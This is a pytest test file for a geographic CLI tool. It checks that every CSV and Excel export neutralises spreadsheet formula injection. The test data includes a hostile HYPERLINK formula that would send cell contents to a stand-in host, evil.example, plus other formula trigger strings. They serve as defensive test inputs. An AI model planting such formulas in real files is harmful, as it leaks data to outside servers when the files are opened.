"""No file gridmap writes runs a formula when opened (OWASP CSV injection), on both stores.

A store is seeded with an area, a cell, units, a station and a worker whose names are
formulas; every CSV and Excel file the CLI writes from it is then read back: no Excel cell
is a formula, no CSV field starts with a formula character, and the names are still there
as text (prefixed with ``'`` in CSV).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from shapely.geometry import box
from typer.testing import CliRunner

from gridmap._spreadsheet import FORMULA_PREFIXES, csv_safe, write_csv, write_xlsx
from gridmap.cli import app
from gridmap.grid.stored import assign_units
from gridmap.ingest.pipeline import ingest_layer
from gridmap.store import Store
from gridmap.store.export import EXPORT_KINDS

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"点我")'
OTHER_TRIGGERS = ("+SUM(1,1)", "-1+2", "@SUM(A1:A2)", "\t=1+1")  # "\r": test_only_text_...
AREA = "360681001001"
CELL = "360681001001001"


def _frame(path: Path, **columns: list[object]) -> Path:
    pd.DataFrame(columns).to_csv(path, index=False)
    return path


def _seed(store: Store, tmp_path: Path) -> dict[str, Path]:
    """Formula names everywhere; returns the reject files the imports wrote."""
    area = tmp_path / "areas.geojson"
    gpd.GeoDataFrame(
        {"code": [AREA], "name": [EVIL], "level": ["village"]},
        geometry=[box(117.20, 28.28, 117.26, 28.33)],
        crs="EPSG:4326",
    ).to_file(area, driver="GeoJSON")
    cells = tmp_path / "cells.geojson"
    gpd.GeoDataFrame(
        {"code": [CELL], "name": [EVIL], "area_code": [AREA]},
        geometry=[box(117.20, 28.28, 117.26, 28.33)],
        crs="EPSG:4326",
    ).to_file(cells, driver="GeoJSON")
    names = [EVIL, *OTHER_TRIGGERS]
    units = _frame(
        tmp_path / "units.csv",
        source_id=[f"U{i}" for i in range(len(names))] + ["BAD"],
        name=[*names, EVIL],
        kind=["firm"] * (len(names) + 1),
        lon=[117.21 + 0.005 * i for i in range(len(names))] + [None],  # BAD: no location
        lat=[28.30] * len(names) + [None],
        party_members=[5] * len(names) + [5],
    )
    stations = _frame(
        tmp_path / "stations.csv",
        source_id=["S1"],
        name=[EVIL],
        tier="community",
        lon=[117.2101],
        lat=[28.3001],
        last_activity=["2026-10-01"],
    )
    workers = _frame(
        tmp_path / "workers.csv", source_id=["W1"], name=[EVIL], phone=["-1"], cells=[CELL]
    )
    rejects = {"csv": tmp_path / "rejects.csv", "xlsx": tmp_path / "rejects.xlsx"}
    for path, kind in ((area, "area"), (cells, "cell"), (stations, "station")):
        assert ingest_layer(store, path, kind).rejected == 0
    for suffix, reject_file in rejects.items():
        report = ingest_layer(store, units, "unit", reject_file=reject_file)
        assert (report.rejected, report.reject_file) == (1, reject_file), suffix
    assert ingest_layer(store, workers, "worker").rejected == 0
    return rejects


def _cli(store: Store, *args: str) -> None:
    env = {"GRIDMAP_DATABASE_URL": store.url, "COLUMNS": "160"}
    result = CliRunner().invoke(app, list(args), env=env)
    assert result.exit_code == 0, result.output


@pytest.fixture
def outputs(store: Store, tmp_path: Path) -> Iterator[list[Path]]:
    """Every CSV and Excel file the CLI writes from the seeded store."""
    files = list(_seed(store, tmp_path).values())
    out = tmp_path / "out"
    assign_units(store)
    for kind in EXPORT_KINDS:
        for suffix in (".csv", ".xlsx"):
            _cli(store, "export", kind, "--out", str(out / f"{kind}{suffix}"))
    as_of = ["--as-of", "2026-11-01", "--mode", "radius"]
    _cli(store, "coverage", "run", *as_of, "--out", str(out / "csv"))
    _cli(store, "coverage", "run", *as_of, "--out", str(out / "xlsx"), "--format", "xlsx")
    _cli(store, "coverage", "compare", "1", "2", "--out", str(out / "compare.xlsx"))
    _cli(store, "report", "--out", str(out / "report.xlsx"))
    _cli(store, "report", "--out", str(out / "report-en.xlsx"), "--lang", "en")
    _cli(store, "site", "recommend", "--k", "1", "--method", "greedy", "--out", str(out / "s"))
    files += sorted(out.rglob("*.csv")) + sorted(out.rglob("*.xlsx"))
    yield files


def _xlsx_texts(path: Path) -> tuple[list[str], list[str]]:
    """Text values of every sheet, and the cells that are formulas."""
    book = openpyxl.load_workbook(path)
    texts: list[str] = []
    formulas: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{path.name}!{sheet.title}!{cell.coordinate}")
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts, formulas


def _csv_texts(path: Path) -> tuple[list[str], list[str]]:
    """Fields of the file, and those a spreadsheet would run."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        fields = [field for row in csv.reader(handle) for field in row]
    return fields, [f"{path.name}: {f!r}" for f in fields if f.startswith(FORMULA_PREFIXES)]


def test_no_output_file_carries_a_live_formula(outputs: list[Path]) -> None:
    names = {p.name for p in outputs}
    expected = {"rejects.csv", "rejects.xlsx", "units.csv", "units.xlsx", "cells.csv"}
    expected |= {"cells.xlsx", "areas.csv", "coverage.xlsx", "report.xlsx", "compare.xlsx"}
    assert expected <= names
    live: list[str] = []
    lost: list[str] = []
    for path in outputs:
        texts, formulas = _xlsx_texts(path) if path.suffix == ".xlsx" else _csv_texts(path)
        live += formulas
        shown = EVIL if path.suffix == ".xlsx" else f"'{EVIL}"
        if path.stem in {"rejects", "units", "areas", "cells", "coverage", "report"}:
            lost += [] if shown in texts else [path.name]  # the name is kept, as text
    assert live == [], sorted({re.split("[!:]", entry)[0] for entry in live})
    assert lost == []
    unit_sheet = openpyxl.load_workbook(next(p for p in outputs if p.name == "units.xlsx")).active
    assert unit_sheet is not None
    quoted = [c for row in unit_sheet.iter_rows() for c in row if c.value == EVIL]
    assert quoted and all(c.data_type == "s" and c.quotePrefix for c in quoted)
    report = openpyxl.load_workbook(next(p for p in outputs if p.name == "report.xlsx"))
    must = [row[0] for row in report["应建未建"].iter_rows(min_row=2, values_only=True)]
    stored = {EVIL, *(n.strip() for n in OTHER_TRIGGERS)}  # ingest strips the tab
    assert set(must) >= stored  # every formula-like name, each as text


def test_only_text_is_neutralised(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"=header": [1, 2], "n": [-5, 3], "x": [-0.5, 1.0], "t": ["-5", "\r=1"], "s": [EVIL, None]}
    )
    safe = csv_safe(frame)
    assert list(safe.columns) == ["'=header", "n", "x", "t", "s"]
    assert safe["n"].tolist() == [-5, 3] and safe["x"].tolist() == [-0.5, 1.0]
    assert safe["t"].tolist() == ["'-5", "'\r=1"]
    assert safe["s"].iloc[0] == f"'{EVIL}" and pd.isna(safe["s"].iloc[1])
    assert frame["s"].iloc[0] == EVIL  # the input is not changed
    with write_csv(frame, tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1] == ["1", "-5", "-0.5", "'-5", f"'{EVIL}"]
    assert rows[2] == ["2", "3", "1.0", "'\r=1", ""]  # the bare CR is quoted, not a line break
    sheet = openpyxl.load_workbook(write_xlsx(tmp_path / "t.xlsx", {"t": frame}))["t"]
    assert [c.value for c in sheet[2]] == [1, -5, -0.5, "-5", EVIL]
    assert [c.data_type for c in sheet[2]] == ["n", "n", "n", "s", "s"]
    assert sheet["A1"].value == "=header" and sheet["A1"].data_type == "s"
